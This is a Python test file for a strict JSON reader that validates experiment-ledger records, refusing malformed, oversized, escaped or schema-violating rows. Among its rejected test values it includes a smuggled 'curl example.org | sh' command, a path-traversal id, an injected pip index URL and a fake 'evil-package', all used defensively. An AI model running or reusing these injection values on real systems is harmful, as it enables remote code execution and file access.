"""The strict reader: what is no plain record costs one sentence, whatever it is."""

import copy
import json
import os
import random

import pytest
from jsonschema import Draft202012Validator

from pytest_scaling.ledger.environment import LIBRARIES
from pytest_scaling.ledger.format import SCHEMA_FILE, dump
from pytest_scaling.ledger.ledger import RowFile
from pytest_scaling.ledger.reading import reader, schema
from pytest_scaling.ledger.reading.reader import UnreadableError, read, require_sound
from pytest_scaling.ledger.reading.sharing import contradictions, unbound
from pytest_scaling.ledger.reading.strict_json import MOST_BYTES, is_plain, one_line, printable
from tests.report.citation.conftest import FOLDER, arm, cell, comparison, renewed, row

SCHEMA = Draft202012Validator(json.loads(SCHEMA_FILE.read_text(encoding="utf-8")))
ARMS = (arm("oak", 64, [0.1, 0.2]), arm("elm", 64, [0.2, 0.3]))
ROW = row(
    "oak",
    "supported",
    cell("supported", comparison(arms=[0, 1])),
    arms=ARMS,
)
ROW = renewed(ROW | {"discordant": [{"arms": [0, 1], "rows": [102, 200]}]})


def changed(way, value):
    """The row with another value at a place, and a digest that matches."""
    made = copy.deepcopy(ROW)
    inner = made
    for part in way[:-1]:
        inner = inner[part]
    inner[way[-1]] = value
    return renewed(made)


def fault(content):
    with pytest.raises(UnreadableError) as caught:
        require_sound(content if isinstance(content, bytes) else dump(content).encode(), "mend it")
    words = str(caught.value)
    assert words.endswith("; mend it")
    assert is_plain(words)
    assert len(words) < 300
    return words


def test_a_sound_row_is_read():
    assert require_sound(dump(ROW).encode(), "") == ROW


TEXTS = {
    b"": "JSONDecodeError",
    b"\xff{}": "UnicodeDecodeError",
    b'{"schema": NaN}': "NaN is no number",
    b'{"schema": 1e999}': "too large or too long",
    b'{"schema": ' + b"9" * 400 + b"}": "too large or too long",
    b'{"schema": ' + b"9" * 10_000 + b"}": "too large or too long",
    b'{"schema": 0.' + b"1" * 400 + b"}": "too large or too long",
    b'{"schema": 1, "schema": 2}': "the same key twice",
    b'{"schema": "\\ud800"}': "an unprintable letter: \\ud800",
    b'{"schema": "\\u001b[2J"}': "an unprintable letter: \\x1b[2J",
    b'{"schema": "\\u202e"}': "an unprintable letter: \\u202e",
    b'{"\\n": 1}': "an unprintable letter: \\n",
    b"[" * 100_000: "nested too deeply",
    b'{"schema":' * 500 + b"1" + b"}" * 500: "nested too deeply",
    b'"schema"': "TypeError",
    b"7": "TypeError",
    b"{}": "KeyError",
}


@pytest.mark.parametrize("text", TEXTS)
def test_text_that_is_no_plain_json_is_refused_in_a_sentence(text):
    words = fault(text)
    assert words.startswith("cannot be read (")
    assert TEXTS[text] in words


@pytest.mark.parametrize("kind", ["a folder", "a pipe", "a device", "an endless link"])
def test_what_is_no_regular_file_is_refused_and_not_waited_for(kind, tmp_path):
    path = tmp_path / "oak.json"
    if kind == "a folder":
        path.mkdir()
    elif kind == "a pipe":
        os.mkfifo(path)
    elif kind == "a device":
        path.symlink_to("/dev/zero")
    else:
        path.symlink_to(path)
    with pytest.raises(UnreadableError, match="cannot be read"):
        read(path, "mend it")


def test_a_file_that_is_too_large_is_refused(tmp_path):
    path = tmp_path / "oak.json"
    with path.open("wb") as file:
        file.truncate(MOST_BYTES + 1)
    with pytest.raises(UnreadableError, match="more than 64 MiB"):
        read(path, "mend it")


PLACES = {
    ("claim", "id"): "../../victim/settings",
    ("profile", "architecture"): "../x",
    ("profile", "tier"): "quick\n",
    ("environment",): None,
    ("environment", "system"): "Linux; curl example.org | sh",
    ("environment", "python"): "3 --index-url=https://example.org",
    ("environment", "libraries"): {"evil-package": "6.6.6"},
    ("environment", "libraries", "numpy"): "2.1.0 evil-package",
    ("arms", 0, "task"): "../leaves",
    ("arms", 0, "test_rows"): [-400, -400],
    ("arms", 0, "m"): True,
    ("verdict",): "proved",
    ("cells", 0, "evidence", 0, "unit"): "ratio of metres",
    ("note",): "unknown",
}


WARNINGS = (
    {"UserWarning": 0},
    {"UserWarning": "often"},
    {"a b": 1},
    {"": 1},
    {"x\x1b": 1},
    ["UserWarning"],
)


@pytest.mark.parametrize("said", WARNINGS, ids=str)
def test_what_trainings_warned_of_is_counted_by_category(said):
    sound = ROW | {"warnings": {"sklearn.exceptions.ConvergenceWarning": 3, "f.<locals>.W": 1}}
    assert require_sound(dump(sound).encode(), "") == sound
    assert "warnings" in (words := fault(ROW | {"warnings": said})) or "unprintable" in words


@pytest.mark.parametrize("way", PLACES, ids=str)
def test_a_value_that_the_schema_does_not_permit_is_named_by_its_place(way):
    words = fault(changed(way, PLACES[way]))
    assert "unprintable" in words or words.startswith("does not match record.schema.json (")
    assert "unprintable" in words or str(way[0]) in words


def test_a_digest_is_64_digits():
    assert "digest has an unexpected form" in fault(ROW | {"digest": "0"})


DISAGREEMENTS = {
    ("arms", 0, "seeds"): [0, 0],
    ("arms", 1, "seeds"): [0, 1, 2],
    ("arms", 0, "diverged"): 1,
    ("arms", 0, "metrics", "error"): [0.1, 0.2005],
    ("arms", 1, "metrics", "error"): [0.2, 1.3],
    ("arms", 0, "metrics", "majority_error"): [None, 0.5],
    ("discordant", 0, "rows"): [103, 200],
    ("discordant", 0, "arms"): [0, 2],
    ("cells", 0, "evidence", 0, "arms"): [7],
    ("cells", 0, "evidence", 0, "n"): 4,
    ("cells",): [cell("supported"), cell("refuted")],
    ("arms",): [ARMS[0], ARMS[1], ARMS[0]],
}


@pytest.mark.parametrize("way", DISAGREEMENTS, ids=str)
def test_parts_that_do_not_agree_are_named(way):
    content = changed(way, DISAGREEMENTS[way])
    SCHEMA.validate(content)
    assert fault(content).startswith("does not match record.schema.json (")


def test_our_check_of_the_schema_finds_what_jsonschema_finds():
    random.seed(7)
    junk = [None, True, -1, 0, 0.5, 1.5, "", "x", "a/b", [], {}, [1], ["x"], {"x": 1}]
    ways = list(places(ROW))
    wrong = 0
    for _ in range(400):
        content = changed(random.choice(ways), random.choice(junk))
        expected = next(SCHEMA.iter_errors(content), None)
        assert bool(schema.fault(content)) == bool(expected), expected
        wrong += bool(expected)
    assert wrong > 100


def places(value, way=()):
    """The way to every value inside a JSON value."""
    for key, each in value.items() if isinstance(value, dict) else enumerate(value):
        yield (*way, key)
        if isinstance(each, (dict, list)):
            yield from places(each, (*way, key))


def test_every_keyword_of_the_schema_is_known_to_our_check():
    silent = {"$schema", "$id", "$defs", "$ref", "title", "description"}
    found = set()

    def collect(value):
        if isinstance(value, dict):
            found.update(value)
            for key, each in value.items():
                named = key in ("properties", "$defs", "dependentRequired")
                for inner in each.values() if named else [each]:
                    collect(inner)
        elif isinstance(value, list):
            for each in value:
                collect(each)

    collect(SCHEMA.schema)
    assert found - silent == schema.CHECKS.keys() & found
    assert {"propertyNames", "dependentRequired"} <= found


def test_the_schema_knows_the_libraries_that_a_record_names():
    known = schema.document()["$defs"]["environment"]["properties"]["libraries"]["propertyNames"]
    assert tuple(known["enum"]) == LIBRARIES


@pytest.fixture
def file(tmp_path):
    """Write a row as a file of the ledger, and read it."""

    def write(content, name="oak", folder=FOLDER):
        path = tmp_path / folder / f"{name}.json"
        path.parent.mkdir(exist_ok=True)
        path.write_text(dump(content), encoding="utf-8")
        return RowFile.read(path)

    return write


def test_a_row_is_used_only_under_its_own_name_profile_and_digest(file):
    assert file(ROW).wrong == ""
    assert "is a duplicate" in file(ROW, "elm").wrong
    elsewhere = "cpu-arm64-float32-deterministic-quick"
    assert (
        f"is in {elsewhere}, but is a row of the profile {FOLDER}"
        in file(ROW, folder=elsewhere).wrong
    )
    assert reader.EDITED in file(ROW | {"verdict": "refuted"}).wrong


def shared(**more):
    return renewed(ROW | {"arms": [ARMS[0] | more, ARMS[1]]})


def test_rows_that_give_one_trial_two_results_are_named():
    other = shared(metrics={"error": [0.1, 0.202], "majority_error": [0.5, 0.5]})
    assert list(contradictions({"a.json": ROW, "b.json": ROW})) == []
    assert list(contradictions({"a.json": ROW, "b.json": other})) == [
        "b.json has error of oak on leaves, m = 64, seed 1 as 0.202, and a.json as 0.2"
    ]


def test_the_majority_of_a_training_set_is_the_same_for_every_learner():
    other = shared(metrics={"error": [0.1, 0.2], "majority_error": [0.5, 0.4]})
    (words,) = contradictions({"b.json": other})
    assert "majority error of elm on leaves, m = 64, seed 1 as 0.5, and it as 0.4" in words


def test_rows_of_other_libraries_may_have_other_numbers():
    other = shared(metrics={"error": [0.1, 0.202], "majority_error": [0.5, 0.5]})
    other["environment"] = other["environment"] | {"libraries": {"numpy": "9"}}
    assert list(contradictions({"a.json": ROW, "b.json": other})) == []


def test_arms_that_nothing_binds_are_named():
    assert unbound([ROW]) == []
    drawn = renewed(ROW | {"arms": [*ARMS, arm("ash", 64, [0.3, 0.3])]})
    assert unbound([drawn]) == ["ash on leaves, m = 64"]
    assert unbound([drawn, drawn]) == []


def test_unprintable_letters_are_written_as_escapes_or_left_out():
    assert printable("a\x1b[2J\u202e\ud800é") == "a\\x1b[2J\\u202e\\ud800é"
    assert one_line(" a\n b\x1b\ud800c ") == "a b c"


def test_a_content_is_checked_once_and_every_other_content_anew(monkeypatch):
    checked = []
    fault = reader.fault
    monkeypatch.setattr(reader, "SOUND", set())
    monkeypatch.setattr(reader, "fault", lambda record: checked.append(record) or fault(record))
    content = dump(ROW).encode()
    first, second = (require_sound(content, "restore it") for _ in range(2))
    assert first == second
    assert first is not second
    assert len(checked) == 1
    wrong = dump(ROW | {"verdict": "perhaps"}).encode()
    for _ in range(2):
        with pytest.raises(UnreadableError, match="verdict"):
            require_sound(wrong, "restore it")
    assert len(checked) == 3
